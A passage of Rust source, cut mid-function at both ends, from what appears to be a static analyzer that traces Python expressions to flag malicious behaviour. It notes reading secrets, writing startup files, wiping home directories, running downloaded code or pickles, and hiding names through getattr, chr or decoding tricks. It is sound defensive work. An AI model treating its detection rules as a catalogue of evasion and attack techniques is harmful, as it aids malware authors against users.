                self.operand(v);
            }
            Kind::Number => {
                let text = String::from_utf8_lossy(word).replace('_', "");
                let n = text.strip_prefix("0x").or(text.strip_prefix("0X")).map_or_else(|| text.parse().ok(), |h| i64::from_str_radix(h, 16).ok());
                self.operand(Value::new(n.map_or(What::Unknown, What::Int), 0, token.at));
            }
            Kind::FOpen => self.frames.push(Frame::new(Bracket::Fstring, token.at)),
            Kind::FText { raw } => {
                let text = lex::unescape(word, raw, false, value::CONSTANT);
                if let Some(f) = self.frames.last_mut()
                    && f.text.len() < value::CONSTANT
                {
                    f.text.extend(text);
                }
            }
            Kind::FField => self.frames.push(Frame::new(Bracket::Field, token.at)),
            Kind::FFieldEnd | Kind::FClose => self.close(token.end),
            Kind::Name => self.name(token, word),
            Kind::Op => self.op(token, word),
            _ => {}
        }
    }

    fn operand(&mut self, v: Value) {
        let Some(f) = self.frames.last_mut() else {
            return;
        };
        f.from |= v.from;
        if !f.want {
            // Two strings side by side are one.
            if let Some(last) = f.operands.last_mut()
                && last.literal
                && v.literal
                && let (Some(a), Some(b)) = (last.bytes(), v.bytes())
            {
                let mut joined = Value::text(&[a, b].concat(), last.from | v.from, last.at);
                joined.literal = true;
                let cost = a.len() + b.len();
                self.budget = self.budget.saturating_sub(cost);
                *last = if self.budget == 0 { Value::unknown(0, last.at) } else { joined };
                return;
            }
            // Two operands side by side: a statement of Python 2, or no Python.
            self.item();
        }
        if let Some(f) = self.frames.last_mut() {
            f.operands.push(v);
            f.want = false;
        }
    }

    fn name(&mut self, token: Token, word: &'t [u8]) {
        let Some(f) = self.frames.last_mut() else {
            return;
        };
        match word {
            b"not" if f.want => f.operators.push(Operator::Unary(5)),
            b"not" => {}
            b"await" | b"yield" | b"async" => {}
            b"from" => {}
            b"lambda" => {
                f.lambdas += 1;
                f.operators.push(Operator::Lambda);
                f.want = true;
            }
            b"for" if !f.want || f.bracket != Bracket::Statement => {
                self.item();
                if let Some(f) = self.frames.last_mut() {
                    f.loops = true;
                    f.comma = false;
                }
            }
            b"in" if f.loops => {
                f.operands.clear();
                f.operators.clear();
                f.want = true;
            }
            b"if" | b"else" | b"and" | b"or" | b"in" | b"is" => self.binary(word),
            b"None" | b"True" | b"False" => self.operand(Value::new(What::Unknown, 0, token.at)),
            _ => {
                let name = self.ident(token);
                let v = self.lookup(&name, token.at);
                self.operand(v);
            }
        }
    }

    fn binary(&mut self, word: &[u8]) {
        let Some((op, rank)) = BINARY.iter().find(|b| b.0 == word) else {
            return;
        };
        let Some(f) = self.frames.last_mut() else {
            return;
        };
        if f.want {
            if matches!(word, b"-" | b"+") {
                f.operators.push(Operator::Unary(13));
            }
            return;
        }
        self.reduce(*rank);
        if let Some(f) = self.frames.last_mut() {
            f.operators.push(Operator::Binary(*rank, op));
            f.want = true;
        }
    }

    /// Applies the operators that bind at least as tightly as `rank`.
    fn reduce(&mut self, rank: u8) {
        loop {
            let Some(f) = self.frames.last_mut() else {
                return;
            };
            if f.operators.last().is_none_or(|o| o.rank() < rank) {
                return;
            }
            let Some(operator) = f.operators.pop() else {
                return;
            };
            let Some(right) = f.operands.pop() else {
                return;
            };
            let v = match operator {
                Operator::Binary(_, op) => match f.operands.pop() {
                    Some(left) => {
                        if op == b":=" {
                            self.assign(&left, &right);
                        }
                        self.fold(op, left, right)
                    }
                    None => right,
                },
                Operator::Unary(13) => match right.what {
                    What::Int(n) => Value { what: What::Int(n.wrapping_neg()), name: None, ..right },
                    _ => Value::unknown(right.from, right.at),
                },
                Operator::Unary(_) => Value::unknown(right.from, right.at),
                Operator::Lambda => Value { name: None, literal: false, ..right },
            };
            if let Some(f) = self.frames.last_mut() {
                f.operands.push(v);
            }
        }
    }

    fn op(&mut self, token: Token, word: &'t [u8]) {
        let Some(f) = self.frames.last_mut() else {
            return;
        };
        let want = f.want;
        match word {
            b"(" | b"[" if !want => {
                let callee = self.frames.last_mut().and_then(|f| f.operands.pop());
                let mut frame = Frame::new(if word == b"(" { Bracket::Call } else { Bracket::Index }, token.at);
                frame.callee = callee;
                self.frames.push(frame);
            }
            b"(" => self.frames.push(Frame::new(Bracket::Paren, token.at)),
            b"[" => self.frames.push(Frame::new(Bracket::List, token.at)),
            b"{" => {
                if !want {
                    self.item();
                }
                self.frames.push(Frame::new(Bracket::Brace, token.at));
            }
            b")" | b"]" | b"}" => self.close(token.end),
            b"." if !want => {
                let next = self.peek();
                if next.kind == Kind::Name {
                    self.next();
                    let name = self.ident(next);
                    let recv = self.frames.last_mut().and_then(|f| f.operands.pop());
                    if let Some(recv) = recv {
                        let v = self.attribute(recv, &name);
                        if let Some(f) = self.frames.last_mut() {
                            f.operands.push(v);
                        }
                    }
                }
            }
            b"," if f.lambdas > 0 => {
                f.operands.truncate(0);
                f.operators.retain(|o| matches!(o, Operator::Lambda));
                f.want = true;
            }
            b"," => {
                f.comma = true;
                self.item();
            }
            b":" if f.lambdas > 0 => {
                f.lambdas -= 1;
                f.operands.truncate(0);
                f.want = true;
            }
            b":" => {
                if matches!(f.bracket, Bracket::Index) && f.want {
                    f.operands.push(Value::unknown(0, token.at));
                }
                f.colons += 1;
                self.item();
            }
            b"=" => {
                let name = f.operands.pop().and_then(|v| v.name);
                if f.lambdas == 0 {
                    f.keyword = name;
                }
                f.want = true;
            }
            b"*" | b"**" if want => {}
            b"~" => f.operators.push(Operator::Unary(13)),
            b"`" => {}
            b";" => self.item(),
            _ => self.binary(word),
        }
    }

    /// Ends one element of the innermost bracket.
    fn item(&mut self) {
        self.reduce(0);
        let Some(f) = self.frames.last_mut() else {
            return;
        };
        f.want = true;
        f.lambdas = 0;
        f.operators.clear();
        let v = f.operands.pop();
        f.operands.clear();
        let keyword = f.keyword.take();
        let Some(v) = v else { return };
        f.from |= v.from;
        if f.items.len() < value::ELEMENTS {
            f.items.push((keyword, v));
        } else {
            f.from |= origin::UNKNOWN;
        }
    }

    /// Closes the innermost bracket and hands its value on.
    fn close(&mut self, end: usize) {
        if self.frames.len() < 2 {
            return;
        }
        let Some(mut frame) = self.frames.pop() else {
            return;
        };
        let callee = frame.callee.take();
        let v = match (frame.bracket, callee) {
            (Bracket::Call, Some(callee)) => {
                let items = self.finish_items(frame);
                let at = callee.at;
                self.call(callee, items, at, end)
            }
            (Bracket::Index, Some(recv)) => {
                let colons = frame.colons;
                let parts: Vec<Value> = self.finish_items(frame).into_iter().map(|i| i.1).collect();
                self.subscript(recv, &parts, colons)
            }
            (Bracket::Fstring, _) => Value::text(&frame.text, frame.from | origin::PIECES, frame.at),
            (Bracket::Field, _) => {
                let v = self.finish(frame);
                if let Some(f) = self.frames.last_mut()
                    && f.bracket == Bracket::Fstring
                {
                    f.from |= v.from;
                    let shown = v.shown();
                    if f.text.len().saturating_add(shown.len()) < value::CONSTANT {
                        f.text.extend(shown);
                    }
                }
                return;
            }
            _ => self.finish(frame),
        };
        self.operand_closed(v);
    }

    fn operand_closed(&mut self, v: Value) {
        let Some(f) = self.frames.last_mut() else {
            return;
        };
        if !f.want && v.literal {
            f.want = true;
        }
        let Some(f) = self.frames.last_mut() else {
            return;
        };
        f.from |= v.from;
        f.operands.push(v);
        f.want = false;
    }

    fn finish_items(&mut self, frame: Frame) -> Vec<(Option<Rc<str>>, Value)> {
        let loops = frame.loops;
        let from = frame.from;
        self.frames.push(frame);
        self.item();
        let mut items = self.frames.pop().map(|f| f.items).unwrap_or_default();
        if loops {
            // A generator: what it yields stands first, the rest says where it comes from.
            let first = items.into_iter().next().map_or_else(|| Value::unknown(from, 0), |i| i.1);
            let what = if from & origin::CHARS != 0 { What::Unknown } else { What::Seq(Rc::new(vec![first.clone()])) };
            items = vec![(None, Value::new(what, first.from | from, first.at))];
        }
        items
    }

    /// The value of a bracket, or of a whole expression.
    fn finish(&mut self, frame: Frame) -> Value {
        let (bracket, at, comma, loops) = (frame.bracket, frame.at, frame.comma, frame.loops);
        let frame_from = frame.from;
        let items = self.finish_items(frame);
        if loops {
            return items.into_iter().next().map_or_else(|| Value::unknown(frame_from, at), |i| i.1);
        }
        let from = items.iter().fold(0, |f, i| f | i.1.from);
        let single = matches!(bracket, Bracket::Statement | Bracket::Paren | Bracket::Field) && !comma;
        if single && items.len() <= 1 {
            let Some((keyword, mut v)) = items.into_iter().next() else {
                return Value::new(What::Seq(Rc::new(Vec::new())), 0, at);
            };
            if keyword.is_some() {
                v.name = keyword;
            }
            return v;
        }
        let many: Vec<Value> = items
            .into_iter()
            .map(|(keyword, mut v)| {
                if keyword.is_some() {
                    v.name = keyword;
                }
                v
            })
            .collect();
        if bracket != Bracket::Statement {
            for v in &many {
                self.handed(v);
            }
        }
        Value::new(What::Seq(Rc::new(many)), from, at)
    }

    /// A function that runs programs or code and is kept in a list or handed to somebody: who calls it cannot be seen.
    fn handed(&mut self, v: &Value) {
        if let Some(path) = v.as_path()
            && matches!(effect::of(path), Some(Effect::Process(_) | Effect::Exec | Effect::Marshal))
            && !matches!(path, "subprocess.Popen" | "subprocess.run" | "eval")
            && !path.starts_with("types.")
        {
            self.note("handed", v.at, v.at + path.len());
        }
    }

    fn lookup(&mut self, name: &Rc<str>, at: usize) -> Value {
        let mut scope = self.block.scope;
        let mut first = true;
        while let Some(s) = self.scopes.get(scope) {
            if (first || s.sort != Sort::Class)
                && let Some(v) = s.names.get(name)
            {
                let mut v = v.clone();
                v.at = at;
                v.name = Some(name.clone());
                return v;
            }
            first = false;
            if scope == 0 {
                break;
            }
            scope = s.parent;
        }
        for module in &self.stars {
            let path = effect::normal(&format!("{module}.{name}"));
            if effect::of(&path).is_some() || path == "os.environ" {
                return Value { name: Some(name.clone()), ..Value::path(&path, 0, at) };
            }
        }
        let mut v = if effect::builtin(name) { Value::path(&effect::normal(name), 0, at) } else { Value::unknown(0, at) };
        v.name = Some(name.clone());
        v
    }

    fn known(&self, dotted: &Rc<str>) -> Option<Value> {
        let scope = self.block.scope;
        let here = self.scopes.get(scope)?.names.get(dotted);
        let class = self.class_of(scope).and_then(|c| self.scopes.get(c)).and_then(|s| s.names.get(dotted));
        here.or(class).or_else(|| self.scopes.first().and_then(|s| s.names.get(dotted))).cloned()
    }

    fn attribute(&mut self, recv: Value, name: &str) -> Value {
        let at = recv.at;
        let dotted: Option<Rc<str>> = recv.name.as_ref().filter(|n| n.len() < 200).map(|n| format!("{n}.{name}").into());
        if let Some(d) = &dotted
            && let Some(mut v) = self.known(d)
        {
            v.at = at;
            v.name = dotted;
            return v;
        }
        if let What::Instance(s) = recv.what
            && let Some(m) = self.scopes.get(s).and_then(|s| s.members.get(name)).copied()
            && self.scopes.get(m).is_some_and(|m| m.property)
        {
            self.edge(Edge::Scope(m));
            let result = self.scopes.get(m).and_then(|m| m.result.clone());
            return result.map_or_else(|| Value::unknown(0, at), |r| Value { from: r.from | origin::UNKNOWN, at, name: None, ..r });
        }
        let mut v = match &recv.what {
            What::Path(p) => match name {
                "__dict__" | "__call__" | "__func__" | "__wrapped__" => recv.clone(),
                "__self__" | "__builtins__" => Value::path("builtins", 0, at),
                "__globals__" | "func_globals" => Value::new(What::Globals, recv.from, at),
                "__getattribute__" => Value::new(What::Partial(Rc::new((Value::path("getattr", 0, at), vec![recv.clone()]))), 0, at),
                _ if p.len() > 300 => Value::unknown(recv.from, at),
                _ => {
                    let path = effect::normal(&format!("{p}.{name}"));
                    let from = recv.from | if path == "os.environ" { origin::ENV_ALL } else { 0 };
                    Value::path(&path, from, at)
                }
            },
            What::Local(s) | What::Instance(s) => match self.scopes.get(*s).and_then(|s| s.members.get(name)) {
                Some(m) => Value::new(What::Local(*m), 0, at),
                None if name == "__globals__" => Value::new(What::Globals, 0, at),
                None => Value::new(What::Method(Rc::new(Value { name: None, ..recv.clone() }), name.into()), recv.from | origin::UNKNOWN, at),
            },
            What::Globals => match name {
                "get" | "__getitem__" => Value::new(What::Partial(Rc::new((Value::path("getattr", 0, at), vec![recv.clone()]))), 0, at),
                "update" => Value::path("globals.update", 0, at),
                _ => self.lookup(&name.into(), at),
            },
            _ if matches!(name, "__class__" | "__base__" | "__bases__" | "__mro__" | "__subclasses__" | "mro") => Value::path(name, recv.from, at),
            _ if name == "__globals__" => Value::new(What::Globals, recv.from, at),
            _ => Value::new(What::Method(Rc::new(Value { name: None, ..recv.clone() }), name.into()), recv.from, at),
        };
        v.name = dotted;
        v
    }

    fn subscript(&mut self, recv: Value, parts: &[Value], colons: usize) -> Value {
        let at = recv.at;
        let key = parts.first().filter(|_| colons == 0);
        let dotted = recv.name.clone();
        match &recv.what {
            What::Path(p) => match (&**p, key.and_then(Value::as_str)) {
                ("sys.modules", Some(k)) => Value::path(&effect::normal(k), 0, at),
                ("os.environ", Some(k)) => self.environment(k, at),
                ("ctypes.cdll" | "ctypes.windll", Some(k)) if k.contains(['/', '\\']) && !k.starts_with("/usr") => {
                    self.note("native-file", at, self.last_end);
                    Value::path("ctypes.CDLL()", 0, at)
                }
                (p, Some(_)) if effect::powerful(p) => key.map_or_else(|| Value::unknown(0, at), |k| self.member(&recv, &k.clone(), at)),
                ("os.environ", None) => Value::unknown(0, at),
                _ => Value { name: None, ..recv },
            },
            What::Globals => key.map_or_else(|| Value::unknown(0, at), |k| self.member(&recv, &k.clone(), at)),
            _ => {
                let mut v = value::index(&recv, parts, colons, at);
                // An assignment to one entry is an assignment to the whole.
                v.name = dotted.map(|d| format!("{d}[]").into());
                v
            }
        }
    }

    /// An attribute or entry by a value: constants are followed, anything else out of a module that can do everything is said.
    fn member(&mut self, recv: &Value, key: &Value, at: usize) -> Value {
        let Some(name) = key.as_str().filter(|n| !n.contains("$x")) else {
            let powerful = match &recv.what {
                What::Path(p) => effect::powerful(p) && &**p != "sys",
                _ => false,
            };
            if key.from & origin::DECODED != 0 && (powerful || matches!(recv.what, What::Globals)) {
                self.note("hidden-name", at, self.last_end);
                return Value::path("<hidden>", origin::DECODED, at);
            }
            if powerful {
                self.note("computed-name", at, self.last_end);
            }
            return Value::unknown(recv.from | key.from, at);
        };
        let name = name.to_string();
        let v = match &recv.what {
            What::Globals if name == "__builtins__" || name == "__builtin__" => Value::path("builtins", 0, at),
            What::Globals => {
                let v = self.lookup(&name.as_str().into(), at);
                match v.what {
                    // The globals of another module hold what it imports.
                    What::Unknown if effect::powerful(&name) => Value::path(&name, 0, at),
                    _ => v,
                }
            }
            _ => self.attribute(recv.clone(), &name),
        };
        if key.from & (origin::PIECES | origin::DECODED) != 0
            && !key.literal
            && let Some(path) = v.as_path()
            && (matches!(effect::of(path), Some(Effect::Process(_) | Effect::Exec | Effect::Compile | Effect::Marshal | Effect::Native | Effect::Inject))
                || path == "__import__")
        {
            self.note("hidden-name", at, self.last_end);
        }
        v
    }

    fn environment(&mut self, key: &str, at: usize) -> Value {
        match key {
            "HOME" | "USERPROFILE" => Value::text(b"~", 0, at),
            "APPDATA" | "LOCALAPPDATA" => Value::text(format!("%{key}%").as_bytes(), 0, at),
            _ => Value::unknown(if effect::credential(key) { origin::ENV } else { 0 }, at),
        }
    }

    /// A call: what it gives, and a note of what it does.
    fn call(&mut self, callee: Value, args: Vec<(Option<Rc<str>>, Value)>, at: usize, end: usize) -> Value {
        let from = args.iter().fold(callee.from, |f, a| f | a.1.from);
        let (callee, args) = match &callee.what {
            What::Partial(p) => (p.0.clone(), p.1.iter().cloned().map(|v| (None, v)).chain(args).collect()),
            _ => (callee, args),
        };
        let plain: Vec<Value> = args.iter().filter(|a| a.0.is_none()).map(|a| a.1.clone()).collect();
        match &callee.what {
            What::Path(p) => {
                let p = p.clone();
                self.call_path(&p, &args, &plain, from, at, end)
            }
            What::Local(s) => {
                let s = *s;
                self.call_local(s, &args);
                match self.scopes.get(s) {
                    Some(scope) if scope.sort == Sort::Class => Value::new(What::Instance(s), from | origin::UNKNOWN, at),
                    Some(Scope { result: Some(r), .. }) => Value { from: r.from | from | origin::UNKNOWN, at, name: None, ..r.clone() },
                    _ => Value::unknown(from, at),
                }
            }
            What::Instance(s) => {
                let s = *s;
                for m in ["__call__", "forward"] {
                    if let Some(m) = self.scopes.get(s).and_then(|c| c.members.get(m)).copied() {
                        self.edge(Edge::Scope(m));
                    }
                }
                Value::unknown(from, at)
            }
            What::Getter(name, call) => {
                let (name, call) = (Value::text(name, origin::PIECES, at), *call);
                let Some(recv) = plain.first().cloned() else {
                    return Value::unknown(from, at);
                };
                let v = self.member(&recv, &name, at);
                // `methodcaller` calls at once, with arguments that were given before.
                if call && matches!(v.what, What::Path(_)) && !matches!(&v.what, What::Path(p) if p.ends_with("()")) {
                    let path = v.as_path().unwrap_or("").to_string();
                    return self.call_path(&path, &[], &[], from, at, end);
                }
                v
            }
            What::Method(recv, name) => self.call_method(&recv.clone(), &name.clone(), &args, &plain, from, at, end),
            What::Unknown if callee.name.is_some() => {
                if let Some(name) = &callee.name
                    && !name.contains('.')
                {
                    self.edge(Edge::Name(name.clone()));
                }
                for (_, v) in &args {
                    self.handed(v);
                }
                Value::unknown(from, at)
            }
            _ => Value::unknown(from, at),
        }
    }

    fn call_local(&mut self, s: usize, args: &[(Option<Rc<str>>, Value)]) {
        self.edge(Edge::Scope(s));
        if self.scopes.get(s).is_some_and(|c| c.sort == Sort::Class) {
            for m in MADE {
                if let Some(m) = self.scopes.get(s).and_then(|c| c.members.get(*m)).copied() {
                    self.edge(Edge::Scope(m));
                }
            }
        }
        for (_, v) in args {
            self.handed(v);
            if let What::Local(given) = v.what
                && self.passed.len() < CALLS
            {
                self.passed.push((self.block.scope, self.block.guard, s, given));
            }
        }
    }

    #[allow(clippy::too_many_arguments)]
    fn call_method(&mut self, recv: &Value, name: &str, args: &[(Option<Rc<str>>, Value)], plain: &[Value], from: u16, at: usize, end: usize) -> Value {
        if let What::Instance(class) | What::Local(class) = recv.what {
            self.edge(Edge::Member(class, name.into()));
        }
        match name {
            "read_text" | "read_bytes" | "write_text" | "write_bytes" | "open" | "unlink" if recv.bytes().is_some() => {
                let mode = match name {
                    "write_text" | "write_bytes" => "w",
                    "open" => plain.first().and_then(Value::as_str).unwrap_or("r"),
                    _ => "r",
                };
                if name.starts_with("write") && from & origin::NET != 0 {
                    self.downloaded(recv.shown());
                }
                return self.opens(recv, mode, at, end);
            }
            _ => {}
        }
        for (_, v) in args {
            self.handed(v);
        }
        let mut v = value::text_method(recv, name, plain, at);
        v.from |= from;
        let cost = v.bytes().map_or(0, <[u8]>::len);
        if self.budget < cost {
            self.full = true;
            return Value::unknown(from, at);
        }
        self.budget -= cost;
        v
    }

    fn opens(&mut self, path: &Value, mode: &str, at: usize, end: usize) -> Value {
        let text = String::from_utf8_lossy(&path.shown()).into_owned();
        let writes = mode.contains(['w', 'a', 'x', '+']);
        let mut from = origin::FILE | path.from & (origin::NET | origin::HUB);
        match effect::spot(&text) {
            Some(Spot::Startup) if writes => self.note("write-startup", at, end),
            Some(Spot::Secret) if !writes => {
                from |= origin::SECRET;
                self.note("read-secret", at, end);
            }
            Some(Spot::Startup) if text.contains("authorized_keys") || text.contains("/etc/") => from |= origin::HOST,
            _ => {}
        }
        if writes {
            self.opened = path.bytes().map(<[u8]>::to_vec);
            from = 0;
        }
        Value::path("open()", from | origin::UNKNOWN, at)
    }

    #[allow(clippy::too_many_arguments)]
    fn call_path(&mut self, path: &str, args: &[(Option<Rc<str>>, Value)], plain: &[Value], from: u16, at: usize, end: usize) -> Value {
        let first = plain.first();
        let unknown = || Value::unknown(from, at);
        let through = |v: Option<&Value>| v.map_or_else(unknown, |v| Value { at, name: None, literal: false, ..v.clone() });
        match path {
            "getattr" | "object.__getattribute__" | "inspect.getattr_static" | "operator.getitem" => match (first, plain.get(1)) {
                (Some(recv), Some(key)) => {
                    let (recv, key) = (recv.clone(), key.clone());
                    return self.member(&recv, &key, at);
                }
                _ => return unknown(),
            },
            "__import__"
            | "importlib.import_module"
            | "importlib.__import__"
            | "pydoc.locate"
            | "pkgutil.resolve_name"
            | "__loader__.load_module"
            | "imp.load_module"
            | "sys.modules.get" => {
                let Some(key) = first else { return unknown() };
                if let Some(name) = key.as_str().filter(|n| !n.contains("$x")) {
                    let module = effect::normal(&name.replace(':', "."));
                    if key.from & (origin::PIECES | origin::DECODED) != 0 && !key.literal && (effect::powerful(&module) || effect::of(&module).is_some()) {
                        self.note("hidden-name", at, end);
                    }
                    return Value::path(&module, 0, at);
                }
                if key.from & origin::DECODED != 0 {
                    self.note("hidden-name", at, end);
                }
                return Value::path("<import>", key.from, at);
            }
            "globals" | "locals" => return Value::new(What::Globals, 0, at),
            "vars" => {
                return first.map_or_else(|| Value::new(What::Globals, 0, at), |v| Value { name: None, ..v.clone() });
            }
            "chr" | "unichr" => {
                return match first.map(|v| &v.what) {
                    Some(What::Int(n)) => {
                        u32::try_from(*n).ok().and_then(char::from_u32).map_or_else(unknown, |c| Value::text(c.to_string().as_bytes(), origin::PIECES, at))
                    }
                    _ => Value::new(What::Unknown, from | origin::CHARS, at),
                };
            }
            "bytes" | "bytearray" => return self.bytes_of(first, from, at),
            "str" | "unicode" => {
                return match first {
                    Some(v) if v.bytes().is_some() => through(first),
                    _ => unknown(),
                };
            }
            "reversed" => {
                return match first.map(|v| &v.what) {
                    Some(What::Text(t)) => Value::text(&t.iter().rev().copied().collect::<Vec<_>>(), from | origin::PIECES, at),
                    Some(What::Seq(s)) => Value::new(What::Seq(Rc::new(s.iter().rev().cloned().collect())), from, at),
                    _ => unknown(),
                };
            }
            "site.getusersitepackages" | "sysconfig.get_path" => return Value::text(b"/site-packages", 0, at),
            "site.getsitepackages" => return Value::new(What::Seq(Rc::new(vec![Value::text(b"/site-packages", 0, at)])), 0, at),
            // What a module holds becomes known by its bare name.
            "globals.update" => {
                if let Some(What::Path(module)) = first.map(|v| &v.what)
                    && self.stars.len() < 100
                {
                    self.stars.push(module.clone());
                }
                return unknown();
            }
            "list" | "tuple" | "set" | "iter" | "next" | "dict" | "os.path.expanduser" | "os.path.abspath" | "os.path.normpath" | "os.path.realpath"
            | "os.fspath" | "os.path.expandvars" | "str.encode" | "shlex.split" | "textwrap.dedent" | "inspect.cleandoc" => {
                return through(first);
            }
            "pathlib.Path" | "pathlib.PurePath" | "os.path.join" => {
                let Some(v) = first else { return unknown() };
                let parts: Vec<Vec<u8>> = plain.iter().map(Value::shown).collect();
                return if parts.len() == 1 && v.bytes().is_none() { unknown() } else { Value::text(&parts.join(&b'/'), from, at) };
            }
            "pathlib.Path.home" => return Value::text(b"~", 0, at),
            "functools.partial" => {
                return match plain.split_first() {
                    Some((f, rest)) if !matches!(f.what, What::Partial(_)) => Value::new(What::Partial(Rc::new((f.clone(), rest.to_vec()))), from, at),
                    _ => through(first),
                };
            }
            // `reduce(getattr, ['system'], os)`: one name after the other.
            "functools.reduce" if first.and_then(Value::as_path) == Some("getattr") => {
                let (names, mut v) = (plain.get(1).map(|v| &v.what), plain.get(2).cloned().unwrap_or_else(unknown));
                if let Some(What::Seq(names)) = names {
                    for name in names.clone().iter().take(20) {
                        v = self.member(&v, name, at);
                    }
                }
                return v;
            }
            "operator.attrgetter" | "operator.methodcaller" => {
                return first.and_then(Value::bytes).map_or_else(unknown, |b| Value::new(What::Getter(b.into(), path.ends_with("caller")), from, at));
            }
            "os.getenv" | "os.environ.get" | "os.environ.pop" | "os.getenvb" => {
                let key = first.and_then(Value::as_str).unwrap_or("").to_string();
                return self.environment(&key, at);
            }
            "codecs.decode" if plain.get(1).and_then(Value::as_str).is_some_and(value::is_codec) => {
                return Value::new(What::Unknown, from | origin::DECODED, at);
            }
            "isinstance" | "issubclass" | "hasattr" | "callable" | "id" | "len" => {
                return unknown();
            }
            _ if path.ends_with("__subclasses__") && (path.contains("__base") || path.contains("mro")) => {
                self.note("object-escape", at, end);
                return unknown();
            }
            // What PyArmor leaves of a source runs as soon as its one line does.
            _ if path.ends_with("__pyarmor__") || path.ends_with("pyarmor") => {
                self.note("bytecode", at, end);
                return unknown();
            }
            _ if path.starts_with("<hidden>") => return Value::unknown(from, at),
            _ => {}
        }
        // Out of a module whose name could not be read.
        let guess = path.strip_prefix("<import>.").map(|f| format!("os.{f}"));
        let path = match &guess {
            Some(g) if effect::of(g).is_some() => g.as_str(),
            _ => path,
        };
        let result = |extra: u16| {
            if path.len() < 200 { Value::path(&format!("{path}()"), from | extra | origin::UNKNOWN, at) } else { Value::unknown(from | extra, at) }
        };
        if path == "open().write" && from & origin::NET != 0 {
            let to = self.opened.take();
            self.downloaded(to.unwrap_or_default());
        }
        match effect::of(path) {
            Some(effect) => self.act(effect, path, args, plain, from, at, end).unwrap_or_else(|| result(0)),
            None => {
                for (_, v) in args {
                    self.handed(v);
                }
                let temporary = if path.starts_with("tempfile.") { origin::TEMPORARY } else { 0 };
                result(temporary)
            }
        }
    }

    fn bytes_of(&mut self, first: Option<&Value>, from: u16, at: usize) -> Value {
        match first.map(|v| &v.what) {
            Some(What::Text(_)) => first.map_or_else(|| Value::unknown(from, at), |v| Value { literal: false, ..v.clone() }),
            Some(What::Seq(s)) if !s.is_empty() && s.iter().all(|v| matches!(v.what, What::Int(0..=255))) => {
                let bytes: Vec<u8> = s.iter().filter_map(|v| if let What::Int(n) = v.what { u8::try_from(n).ok() } else { None }).collect();
                Value::text(&bytes, from | origin::DECODED, at)
            }
            _ if from & origin::CHARS != 0 => Value::new(What::Unknown, from | origin::DECODED, at),
            _ => Value::unknown(from, at),
        }
    }

    /// Notes what an effect amounts to with these arguments; the value where it is not simply the call's.
    #[allow(clippy::too_many_arguments)]
    fn act(&mut self, effect: Effect, path: &str, args: &[(Option<Rc<str>>, Value)], plain: &[Value], from: u16, at: usize, end: usize) -> Option<Value> {
        let first = plain.first();
        let named = |names: &[&str]| args.iter().find(|a| a.0.as_deref().is_some_and(|n| names.contains(&n))).map(|a| &a.1);
        match effect {
            Effect::Process(n) => {
                let command = plain.get(n).or_else(|| named(&["args", "command", "cmd"]));
                let what = self.process(path, command, plain.get(n..).unwrap_or(&[]), args);
                self.note(what, at, end);
                None
            }
            Effect::Exec => {
                let code = first.or_else(|| named(&["source", "stmt", "code"]));
                self.exec(path, code, at, end)
            }
            Effect::Compile => Some(first.map_or_else(|| Value::unknown(from, at), |v| Value { at, name: None, literal: false, ..v.clone() })),
            Effect::Marshal => {
                let what = if from & origin::NET != 0 { "run-download" } else { "bytecode" };
                self.note(what, at, end);
                Some(Value::new(What::Unknown, from | origin::DECODED, at))
            }
            Effect::Decode => Some(Value::new(What::Unknown, from | origin::DECODED, at)),
            Effect::Unpickle => {
                let tensors = memchr::memmem::find(self.src.get(at..end).unwrap_or(&[]), b"weights_only=True").is_some();
                match first {
                    // A text in the source is read as what it is; anything else is the business of the loader that is asked for.
                    Some(Value { what: What::Text(t), .. }) if path.starts_with("yaml.") => self.note_inner("constant-pickle", at, end, Some(t.to_vec())),
                    _ if path.starts_with("yaml.") || tensors => {}
                    Some(v) if v.from & origin::HUB != 0 => {
                        self.note("unpickle-published", at, end);
                    }
                    Some(v) if v.from & origin::NET != 0 => self.note("unpickle-download", at, end),
                    Some(v) if v.from & origin::DECODED != 0 && v.constant() => self.note("run-decoded", at, end),
                    Some(Value { what: What::Text(t), .. }) if path.ends_with("loads") => self.note_inner("constant-pickle", at, end, Some(t.to_vec())),
                    _ => {}
                }
                None
            }
            Effect::Hub => {
                if named(&["source"]).and_then(Value::as_str).is_none_or(|s| s != "local") {
                    self.note("run-published", at, end);
                }
                None
            }
            Effect::Compiled => {
                self.note("native-built", at, end);
                None
            }
            Effect::Published => {
                self.note(if path.ends_with("_from_url") { "unpickle-published" } else { "fetch" }, at, end);
                Some(Value::path(&format!("{path}()"), origin::HUB | origin::UNKNOWN, at))
            }
            Effect::Fetch | Effect::Download => {
                let url = first.map_or(0, |v| v.from);
                self.network(url, false, at, end);
                if effect == Effect::Download
                    && let Some(to) = plain.get(1).or_else(|| named(&["filename", "dst", "out"])).and_then(Value::bytes)
                {
                    self.downloaded(to.to_vec());
                }
                Some(Value::path(&format!("{path}()"), origin::NET | origin::UNKNOWN, at))
            }
            Effect::Send => {
                let sent = args
                    .iter()
                    .filter(|a| !a.0.as_deref().is_some_and(|n| matches!(n, "headers" | "auth" | "cookies" | "cert" | "verify" | "proxies")))
                    .fold(0, |f, a| f | a.1.from);
                self.network(sent, true, at, end);
                Some(Value::path(&format!("{path}()"), origin::NET | origin::UNKNOWN, at))
            }
            Effect::Native => {
                let beside = first
                    .and_then(Value::as_str)
                    .is_some_and(|t| t.contains(['/', '\\']) && !t.starts_with("/usr") && !t.starts_with("/lib") && (!t.contains("$x") || brought(t)));
                self.note(
                    if from & (origin::NET | origin::DECODED | origin::HUB) != 0 {
                        "run-download"
                    } else if beside {
                        "native-file"
                    } else {
                        "native"
                    },
                    at,
                    end,
                );
                None
            }
            Effect::Inject => {
                self.note("inject", at, end);
                None
            }
            Effect::Open => {
                let target = first.or_else(|| named(&["file"])).cloned()?;
                let mode = plain.get(1).or_else(|| named(&["mode"])).and_then(Value::as_str).unwrap_or("r").to_string();
                Some(self.opens(&target, &mode, at, end))
            }
            Effect::Remove => {
                if first.and_then(Value::as_str).is_some_and(|t| matches!(t.trim_end_matches(['/', '\\', '*']), "" | "~" | "/home" | "C:" | "/root" | "/Users"))
                    && !first.and_then(Value::as_str).is_some_and(str::is_empty)
                {
                    self.note("wipe", at, end);
                }
                None
            }
            Effect::Copy => {
                if plain.get(1).and_then(Value::as_str).is_some_and(|t| effect::spot(t) == Some(Spot::Startup)) {
                    self.note("write-startup", at, end);
                }
                None
            }
            Effect::Host => Some(Value::unknown(from | origin::HOST, at)),
            Effect::Calls => {
                let given: Vec<Value> = match named(&["args", "initargs"]).map(|v| &v.what) {
                    Some(What::Seq(s)) => s.to_vec(),
